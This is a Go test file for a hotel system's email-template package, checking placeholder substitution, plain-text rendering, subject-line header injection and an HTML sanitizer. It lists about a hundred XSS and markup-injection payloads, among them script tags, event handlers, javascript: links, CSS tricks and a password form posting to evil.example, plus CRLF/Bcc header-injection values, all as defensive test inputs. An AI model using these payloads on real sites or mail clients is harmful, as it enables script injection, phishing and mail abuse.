package emailtemplate

import (
	"fmt"
	"html"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	xhtml "golang.org/x/net/html"
	"pgregory.net/rapid"

	"sarai/internal/identity/organization"
	"sarai/internal/kit/contact"
	"sarai/internal/record/hotel"
)

var haveli = organization.Organization{Details: organization.Details{
	Profile: organization.Profile{Name: "Haveli Sagar", Email: "desk@haveli.example", Phone: "+91 294 242 0101",
		Currency: "INR"},
	Hotel: hotel.Hotel{DefaultCheckIn: "14:00", DefaultCheckOut: "11:00",
		Address: contact.Address{Line1: "12 Lake Road", City: "Udaipur", State: "Rajasthan", Pincode: "313001",
			Country: "India"}}}}

// seeded is a seed as an organization stores it.
func seeded(t Template) Template {
	t.HeaderColor, t.FooterText = defaultColor, defaultFooter
	return t
}

func BenchmarkRender(b *testing.B) {
	t, values := seeded(seeds[1]), Samples(haveli, "2026-04-14")
	for b.Loop() {
		t.render(values)
	}
}

// Every seed uses only variables of its type, is complete in HTML and in text, and passes the cleaning unchanged.
func TestSeeds(t *testing.T) {
	if len(seeds) != len(Types)-1 {
		t.Errorf("%d seeds, want one of each type but custom", len(seeds))
	}
	for _, seed := range seeds {
		seed = seeded(seed)
		if _, err := seed.checked(); err != nil {
			t.Errorf("%s: %v", seed.Type, err)
		}
		listed := map[string]bool{}
		for _, v := range variablesOf(seed.Type) {
			listed[v.Key] = true
		}
		for _, text := range []string{seed.Subject, seed.HeaderText, seed.BodyHTML, seed.FooterText} {
			for _, key := range regexp.MustCompile(`\{\{(.*?)\}\}`).FindAllStringSubmatch(text, -1) {
				if !listed[key[1]] {
					t.Errorf("%s uses %s, which is no variable of it", seed.Type, key[1])
				}
			}
		}
		values := Samples(haveli, "2026-04-14")
		m := seed.render(values)
		if want := substitute(seed.BodyHTML, values, inHTML); m.body != want {
			t.Errorf("cleaning changes %s:\n%s\n%s", seed.Type, want, m.body)
		}
		plain := seed.plain(m, values)
		for _, text := range []string{m.subject, m.html, plain} {
			if strings.ContainsAny(text, "{}") || strings.Contains(text, "  ,") {
				t.Errorf("%s has braces left:\n%s", seed.Type, text)
			}
		}
		for _, line := range []string{"Dear Asha Rao,", "Haveli Sagar", "12 Lake Road, Udaipur, Rajasthan 313001, India",
			"desk@haveli.example"} {
			if !strings.Contains(m.html, line) || !strings.Contains(plain, line) {
				t.Errorf("%s doesn't say %s:\n%s", seed.Type, line, plain)
			}
		}
		if strings.Contains(plain, "<") || strings.Contains(plain, "\n\n\n") {
			t.Errorf("the text of %s:\n%s", seed.Type, plain)
		}
	}
}

func TestPlainText(t *testing.T) {
	receipt := seeded(seeds[2])
	values := Samples(haveli, "2026-04-14")
	want := `We have received your payment

Dear Asha Rao,

Thank you. This is the receipt for your payment.

Receipt number: PAY-318
Date: Tue, 14 Apr 2026
Paid by: Card
Booking number: BK-1042
Amount received: ₹3,000.00
Balance due: ₹6,450.00

Please keep this e-mail for your records.

With kind regards,
Haveli Sagar

` + "-- " + `
Haveli Sagar
12 Lake Road, Udaipur, Rajasthan 313001, India
+91 294 242 0101
desk@haveli.example
`
	if got := receipt.plain(receipt.render(values), values); got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
	for body, want := range map[string]string{
		"a <b>bold</b>, <i>word</i>.":                            "a bold, word.",
		"one<br>two<br><br>three":                                "one\ntwo\n\nthree",
		"<ul><li>Towels</li><li>Soap</li></ul>end":               "- Towels\n- Soap\n\nend",
		`<a href="https://x.example/a">See</a> it`:               "See https://x.example/a it",
		`<a href="https://x.example/">https://x.example/</a>`:    "https://x.example/",
		`<a href="mailto:a@b.example">Write</a>`:                 "Write",
		`<img src="https://x.example/l.png" alt="Logo"> x`:       "Logo x",
		"a&nbsp;&amp;&lt;b&gt;":                                  "a &<b>",
		"<h1>T</h1><hr><p>x</p>":                                 "T\n\n---\n\nx",
		"<table><tr><td>a</td><td>b</td><td>c</td></tr></table>": "a: b c",
		"": "",
	} {
		if got := plainText(clean(body)); got != want {
			t.Errorf("%s reads %q, want %q", body, got, want)
		}
	}
}

func TestSubstitute(t *testing.T) {
	values := map[string]string{"a": "1", "b c": "2", "self": "{{a}}", "lines": "x\r\ny"}
	for text, want := range map[string]string{
		"":                         "",
		"{{a}}":                    "1",
		"{{ a }}{{\ta\n}}":         "11",
		"{{A}}|{{nobody}}|{{}}":    "||",
		"{{{a}}}":                  "{1}",
		"{{{{a}}}}":                "{{1}}",
		"{{a}{{a}}":                "{{a}1",
		"{{a":                      "{{a",
		"a}}":                      "a}}",
		"{ {a} }":                  "{ {a} }",
		"{{self}}":                 "{{a}}",
		"{{b c}}":                  "2",
		"{{#if a}}x{{/if}}":        "x",
		"{{a.b}}{{a|safe}}{{> a}}": "",
		"{{lines}}":                "x\r\ny",
		"$1 \\1 %s {{a}}":          "$1 \\1 %s 1",
	} {
		if got := substitute(text, values, asIs); got != want {
			t.Errorf("%q becomes %q, want %q", text, got, want)
		}
	}
	long := substitute(strings.Repeat("{{a}}", 10_000), map[string]string{"a": strings.Repeat("&", 2000)}, inHTML)
	if len(long) > maxRendered+20_000 {
		t.Errorf("the result has %d bytes", len(long))
	}
}

// FuzzSubstitute compares the substitution with a regular expression that means the same.
func FuzzSubstitute(f *testing.F) {
	for _, text := range []string{"Dear {{guest_name}},", "{{{guest_name}}}", "{{ guest_name }}", "{{guest_name}", "{{}}",
		"{{{{{{", "}}{{", "{{a\n}}", "{{unknown}}x{{guest_name}}", "{{#if guest_name}}",
		"<a href=\"{{guest_name}}\">", "\x00{{\xff}}", "{{{{guest_name}}"} {
		f.Add(text, "Asha <b>&</b> {{guest_name}}")
	}
	placeholder := regexp.MustCompile(`\{\{([^{}]*)\}\}`)
	f.Fuzz(func(t *testing.T, text, value string) {
		if len(text)*len(value) > maxRendered/10 {
			t.Skip("would be cut short")
		}
		values := map[string]string{"guest_name": value}
		got := substitute(text, values, inHTML)
		want := placeholder.ReplaceAllStringFunc(text, func(found string) string {
			return html.EscapeString(values[strings.TrimSpace(found[2:len(found)-2])])
		})
		if got != want {
			t.Errorf("%q with %q becomes %q, want %q", text, value, got, want)
		}
	})
}

func TestSubjectsAreOneLine(t *testing.T) {
	template := Template{Subject: "Hello {{guest_name}} !", HeaderColor: "#fff"}
	breaksLine := func(r rune) bool { return r < 0x20 || r >= 0x7f && r < 0xa0 || r == 0x2028 || r == 0x2029 }
	for _, value := range []string{"Asha\r\nBcc: everyone@hotel.example", "Asha\nX: y", "Asha\r", "\u2028Asha\u2029",
		"Asha\x00\x07\x1b[0m", "Asha\u0085Bcc: x", "\xff\xfeAsha"} {
		got := template.render(map[string]string{"guest_name": value}).subject
		if strings.ContainsFunc(got, breaksLine) || !strings.HasPrefix(got, "Hello ") {
			t.Errorf("%q makes the subject %q", value, got)
		}
	}
}

// vectors are ways in which HTML has run scripts, loaded files, or broken out of its place.
var vectors = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script>alert(1)`,
	`<<SCRIPT>alert(1);//<</SCRIPT>`, `<script/src=data:,alert(1)>`, `<img src=x onerror=alert(1)>`,
	`<img src="x" ONERROR="alert(1)">`, `<img/src="x"/onerror=alert(1)>`,
	`<img src=javascript:alert(1)>`, `<img src="data:image/svg+xml;base64,PHN2Zz4=">`,
	`<img src="//evil.example/x.png">`, `<img src="ftp://evil.example/x">`,
	`<img dynsrc="javascript:alert(1)">`, `<img srcset="https://evil.example/x 1x" src="https://ok.example/x">`,
	`<img src="https://ok.example/x" style="position:fixed;top:0">`,
	`<body onload=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<a href="javascript:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`,
	`<a href="java&#x09;script:alert(1)">x</a>`, `<a href="java
script:alert(1)">x</a>`, `<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="file:///etc/passwd">x</a>`,
	`<a href="//evil.example">x</a>`, `<a href="\\evil.example">x</a>`,
	`<a href="https://ok.example" onclick="alert(1)" onmouseover=alert(2)>x</a>`,
	`<a href="https://ok.example" style="position:absolute;left:0;top:0;width:100%;height:100%">x</a>`,
	`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<frameset><frame src="javascript:alert(1)"></frameset>`,
	`<object data="https://evil.example/x.swf"></object>`, `<embed src="https://evil.example/x.swf">`,
	`<applet code="x"></applet>`,
	`<form action="https://evil.example"><input name=password type=password><button>Go</button></form>`,
	`<input type=image src=x onerror=alert(1)>`,
	`<button formaction="javascript:alert(1)">x</button>`, `<isindex action="javascript:alert(1)">`,
	`<select autofocus onfocus=alert(1)><option>x</select>`,
	`<textarea autofocus onfocus=alert(1)></textarea>`, `<keygen autofocus onfocus=alert(1)>`,
	`<details open ontoggle=alert(1)>x</details>`, `<marquee onstart=alert(1)>x</marquee>`,
	`<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)></audio>`,
	`<link rel=stylesheet href="https://evil.example/x.css">`, `<style>@import "https://evil.example/x.css";</style>`,
	`<style>body{display:none}</style>`, `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
	`<base href="https://evil.example/">`,
	`<div style="background:url(https://evil.example/x.png)">x</div>`,
	`<div style="background:url('javascript:alert(1)')">x</div>`, `<div style="width:expression(alert(1))">x</div>`,
	`<div style="width:e\78pression(alert(1))">x</div>`, `<div style="background:u\72l(https://evil.example)">x</div>`,
	`<div style="background:ur\l(https://evil.example)">x</div>`,
	`<div style="color:red;/*;*/position:fixed">x</div>`, `<div style="position:fixed;inset:0;z-index:9999">x</div>`,
	`<div style="-moz-binding:url(https://evil.example/x.xml)">x</div>`,
	`<div style="behavior:url(x.htc)">x</div>`, `<div style="margin:-5000px 0 0 -5000px">x</div>`,
	`<div style="margin-top:-.5e9px">x</div>`, `<div style="font-size:1e9px">x</div>`,
	`<div style="transform:translate(-100vw,0)">x</div>`,
	`<div style="list-style-image:url(https://evil.example)">x</div>`,
	`<div style="font-family:'x;position:fixed'">x</div>`,
	`<div style="color:red&quot;onload=alert(1)">x</div>`, `<div style='@import "x"'>x</div>`,
	`<div style="background-color:var(--x)">x</div>`, `<div style="color:attr(x)">x</div>`,
	`<table background="https://evil.example/x.png"><tr><td background="javascript:alert(1)">x</td></tr></table>`,
	`<td></td></tr></table></td></tr></table><h1>outside</h1>`,
	`</td></tr></table></body></html><h1>outside</h1>`, `<table><table><div></table></table></td></tr></table>outside`,
	`<table><div><table></table></div></table>outside`,
	`<table><tr><td><table></td></tr></table>outside`, `<tr><td>outside</td></tr>`, `<caption></table>outside`,
	`<table><colgroup><div></table>outside`, `<table><caption><tr><td></table>outside`,
	`<!--<img src="--><img src=x onerror=alert(1)//">`, `<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><x onload=alert(1)>`, `<!DOCTYPE html [<!ENTITY x "y">]>`,
	`<!--[if gte mso 9]><script>alert(1)</script><![endif]-->`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<title><a title="</title><img src=x onerror=alert(1)>"></title>`,
	`<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
	`<noembed><img title="</noembed><img src=x onerror=alert(1)>">`, `<plaintext><img src=x onerror=alert(1)>`,
	`<template><script>alert(1)</script></template>`, `<p title="x" title="</p><script>alert(1)</script>">x</p>`,
	`<p id=location name=cookie class=x>x</p>`, `<a ping="https://evil.example" href="https://ok.example">x</a>`,
	`<a href="https://ok.example" target="_top" rel="opener">x</a>`,
	"<img src=`x`onerror=alert(1)>", "<a href=\"https://ok.example\"\x00onclick=alert(1)>x</a>",
	"<scr\x00ipt>alert(1)</scr\x00ipt>", "\xff<script\xff>alert(1)</script>",
	`<p style="color:#fff"  / / onclick = alert(1) >x`,
	`<portal src="https://evil.example">`, `<dialog open onclose=alert(1)>x</dialog>`, `<slot onslotchange=alert(1)>`,
	`<x-foo onclick=alert(1)>x</x-foo>`, `<a href="tel:+911412220101;javascript:alert(1)">x</a>`,
	`<p style="width:99999px">x</p>`, `<p><p style=position:fixed>x`, `<font face="x' onmouseover='alert(1)">x</font>`,
	strings.Repeat("<div>", 5000) + "<script>alert(1)", strings.Repeat("<table><tr><td>", 200) + "x",
	strings.Repeat("<font color=red>", 600) + strings.Repeat("<p>x", 3000), strings.Repeat("</div>", 5000),
	strings.Repeat("<a href=https://ok.example>", 3000),
}

func TestHostileBodies(t *testing.T) {
	if len(vectors) < 100 {
		t.Errorf("only %d vectors", len(vectors))
	}
	for _, vector := range vectors {
		sound(t, vector, nil)
		// The same as a value, wherever a value may stand.
		for _, body := range []string{"<p>{{x}}</p>", `<p title="{{x}}">x</p>`, `<p title={{x}}>x</p>`,
			`<a href="{{x}}">x</a>`, `<p style="{{x}}">x</p>`, `<p style="color:{{x}}">x</p>`, "<{{x}}>", "<p {{x}}>x</p>",
			`<img src="{{x}}">`, "{{x}}"} {
			sound(t, body, map[string]string{"x": vector})
		}
	}
	for _, value := range []string{"javascript:alert(1)", "onclick=alert(1)", "script", "script src=https://evil.example",
		`x" onclick="alert(1)`, "x' onclick='alert(1)", "x onmouseover=alert(1) y", "red;position:fixed", "url(x)", "/script",
		"iframe"} {
		for _, body := range []string{`<a href="{{x}}">x</a>`, "<a href={{x}}>x</a>", "<p {{x}}>x</p>", "<{{x}}>x</{{x}}>",
			`<p style="color:{{x}}">x</p>`, "<p title='{{x}}'>x</p>", "<scr{{y}}ipt>alert(1)</script>",
			"<a href=java{{y}}script:alert(1)>"} {
			sound(t, body, map[string]string{"x": value})
		}
	}
}

func FuzzClean(f *testing.F) {
	for _, vector := range vectors {
		if len(vector) < 500 {
			f.Add(vector)
		}
	}
	f.Fuzz(func(t *testing.T, body string) { sound(t, body, nil) })
}

// Tags, attributes and texts that are known to do harm are harmless in any order.
func TestAnyBody(t *testing.T) {
	parts := []string{"<table>", "</table>", "<tr>", "</tr>", "<td>", "</td>", "<tbody>", "<caption>", "</caption>",
		"<colgroup>", "<col>", "<div>", "</div>", "<p>", "</p>", "<b>", "</b>", "<a href=\"https://ok.example\">", "</a>",
		"<form>", "<select>", "<svg>", "</svg>", "<math>", "<style>", "</style>", "<script>", "</script>", "<title>",
		"</title>", "<textarea>", "<li>", "<ul>", "</ul>", "<h1>", "</h1>", "<br>", "</br>", "<hr>", "x", " ", "<!--", "-->",
		"<font color=red>", "<pre>\n", "<center>", "<img src=https://ok.example/x>",
		"<p onclick=x style=\"position:fixed;color:red\">", "<td style='margin:-1px'>", "<html>", "<body>", "</body>",
		"</html>", "<head>", "<frameset>", "<template>", "\"", "'", ">", "<"}
	rapid.Check(t, func(r *rapid.T) {
		sound(r, strings.Join(rapid.SliceOfN(rapid.SampledFrom(parts), 0, 30).Draw(r, "parts"), ""), nil)
	})
}

var (
	someElements = strings.Fields("html head meta title body " + // the layout's
		"a abbr b blockquote br caption center code col colgroup dd del div dl dt em font h1 h2 h3 h4 h5 h6 hr i img ins " +
		"li ol p pre s small span strong sub sup table tbody td tfoot th thead tr u ul")
	someAttributes = strings.Fields("style title alt dir lang align valign role width height border cellpadding " +
		"cellspacing colspan rowspan span start value bgcolor color face size href src target rel charset name content")
	outOfPlace = regexp.MustCompile(`(?i)position|z-index|url|expression|@|import|\\|/\*|-moz|behavior|` +
		`(^|[^a-z])-[0-9.]|javascript|var\(`)
)

type failer interface {
	Helper()
	Errorf(format string, args ...any)
}

// sound renders the body and reads the document as a browser does. It fails unless mails may have every element,
// attribute, address and style in it, and the layout's three rows are whole.
func sound(t failer, body string, values map[string]string) {
	t.Helper()
	template := Template{Subject: "S {{x}}", HeaderColor: "#123", HeaderText: "HEADER", FooterText: "FOOTER",
		BodyHTML: body}
	m := template.render(values)
	document, err := xhtml.Parse(strings.NewReader(m.html))
	if err != nil {
		t.Errorf("%.200q makes what can't be read: %v", body, err)
		return
	}
	for node := range document.Descendants() {
		if node.Type == xhtml.CommentNode {
			t.Errorf("%.200q leaves the comment %q", body, node.Data)
		}
		if node.Type != xhtml.ElementNode {
			continue
		}
		if node.Namespace != "" || !slices.Contains(someElements, node.Data) {
			t.Errorf("%.200q leaves the element %s", body, node.Data)
		}
		for _, a := range node.Attr {
			if problem := unsound(node, a); problem != "" {
				t.Errorf("%.200q (%.200q) leaves %s of %s: %s=%q", body, values["x"], problem, node.Data, a.Key, a.Val)
			}
		}
	}
	if rows := layout(document); len(rows) != 3 || rows[0] != "HEADER" || rows[2] != "FOOTER" {
		t.Errorf("%.200q (%.200q) breaks the layout: %q\n%s", body, values["x"], rows, m.html)
	}
}

func unsound(node *xhtml.Node, a xhtml.Attribute) string {
	if !slices.Contains(someAttributes, a.Key) || (a.Key == "name" || a.Key == "content") && node.Data != "meta" {
		return "an attribute"
	}
	switch a.Key {
	case "href", "src":
		address, err := url.Parse(a.Val)
		allowed := []string{"http", "https", "mailto", "tel"}
		if a.Key == "src" {
			allowed = allowed[:2]
		}
		if err != nil || !slices.Contains(allowed, address.Scheme) {
			return "an address"
		}
	case "style":
		if outOfPlace.MatchString(a.Val) && !strings.Contains(a.Val, "-apple-system,'Segoe UI'") {
			return "a style"
		}
	case "target":
		if a.Val != "_blank" {
			return "a target"
		}
	}
	return ""
}

// layout is the text of the rows of the mail's own table.
func layout(document *xhtml.Node) []string {
	var rows []string
	for node := range document.Descendants() {
		if node.Type != xhtml.ElementNode || node.Data != "table" ||
			!slices.Contains(node.Attr, xhtml.Attribute{Key: "width", Val: "600"}) {
			continue
		}
		for body := range node.ChildNodes() {
			for row := range body.ChildNodes() {
				cells := slices.Collect(row.ChildNodes())
				if row.Data == "tr" && len(cells) == 1 {
					rows = append(rows, text(cells[0]))
				} else {
					rows = append(rows, fmt.Sprintf("%s of %d", row.Data, len(cells)))
				}
			}
		}
		break
	}
	return rows
}

func text(node *xhtml.Node) string {
	var out strings.Builder
	for inside := range node.Descendants() {
		if inside.Type == xhtml.TextNode {
			out.WriteString(inside.Data)
		}
	}
	return out.String()
}

// What a hotel writes in good faith stays.
func TestHarmlessBodiesStay(t *testing.T) {
	for _, body := range []string{
		`<p style="margin:0 0 16px;color:#1f2933;font-family:Georgia,'Times New Roman',serif">Dear guest</p>`,
		`<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" ` +
			`style="border-collapse:collapse"><tbody><tr><td align="right" valign="top" colspan="2" width="50%" ` +
			`style="padding:8px;border:1px solid #ccc;background-color:rgba(0, 0, 0, 0.1)">x</td></tr></tbody></table>`,
		`<img src="https://hotel.example/logo.png?size=2&amp;v=1" alt="Our logo" width="200" height="80" ` +
			`style="display:block;max-width:100%">`,
		`<ul><li>One</li><li>Two <b>bold</b> <i>and</i> <u>more</u></li></ul><h2>Title</h2>` +
			`<blockquote>Quote</blockquote><hr><ol start="3"><li>x</li></ol>`,
		`<div style="text-align:center;font:italic 16px/1.5 -apple-system,Arial;border-radius:8px;width:50%;` +
			`line-height:1.5">x</div>`,
		`a &amp; b &lt;c&gt; &#34;d&#34; é ह 👩‍👩‍👧`,
	} {
		if got := clean(body); strings.ReplaceAll(got, "&#39;", "'") != body {
			t.Errorf("%s\nbecomes\n%s", body, got)
		}
	}
	for _, c := range []struct{ body, want string }{
		{`<a href="https://hotel.example/a?b=c">x</a>`,
			`<a href="https://hotel.example/a?b=c" rel="noreferrer noopener" target="_blank">x</a>`},
		{`<a href="mailto:desk@hotel.example">x</a>`, `<a href="mailto:desk@hotel.example" rel="noreferrer">x</a>`},
		{`<a href="tel:+911412220101">x</a>`, `<a href="tel:+911412220101" rel="noreferrer">x</a>`},
		{`<table><td>a<td>b<tr><td>c`, `<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>`},
		{`<b>bold<p>para`, `<b>bold<p>para</p></b>`},
		{`<DIV STYLE="COLOR: Red; POSITION: fixed">x</DIV>`, `<div style="color:Red">x</div>`},
		{`<html><head><title>T</title><style>p{}</style></head><body><p>x</p></body></html>`, `<p>x</p>`},
		{`1 < 2 & 3 > 2`, `1 &lt; 2 &amp; 3 &gt; 2`},
	} {
		if got := clean(c.body); got != c.want {
			t.Errorf("%s\nbecomes\n%s\nwant\n%s", c.body, got, c.want)
		}
	}
}

func TestTextColour(t *testing.T) {
	for colour, want := range map[string]string{"#000": "#ffffff", "#fff": "#1f2933", "#FFFFFF": "#1f2933",
		"#1d4e5f": "#ffffff", "#ff0": "#1f2933", "#c00": "#ffffff", "#F5E6C8": "#1f2933",
		"#000000FF": "#ffffff", "#00000000": "#1f2933", "#1d4e5f20": "#1f2933", "#1d4e5fe0": "#ffffff"} {
		if got := textOn(colour); got != want {
			t.Errorf("on %s text is %s, want %s", colour, got, want)
		}
	}
}

// A mail program that doesn't know opacity shows what the colour looks like on white.
func TestBackground(t *testing.T) {
	for colour, want := range map[string]string{
		"#1d4e5f": "background-color:#1d4e5f", "#fff": "background-color:#fff",
		"#1d4e5fff": "background-color:#1d4e5f;background-color:#1d4e5fff",
		"#00000080": "background-color:#7f7f7f;background-color:#00000080",
		"#ff000088": "background-color:#ff7777;background-color:#ff000088",
	} {
		if got := background(colour); got != want {
			t.Errorf("%s is shown as %s, want %s", colour, got, want)
		}
	}
}
